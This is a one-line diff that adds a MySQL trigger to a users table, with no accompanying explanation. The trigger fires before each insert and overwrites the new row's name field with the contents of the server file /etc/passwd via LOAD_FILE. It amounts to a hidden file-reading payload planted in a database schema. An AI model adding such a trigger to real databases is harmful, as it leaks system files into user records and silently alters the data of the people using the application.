@@ -1,0 +1,1 @@
+CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.name = LOAD_FILE('/etc/passwd');
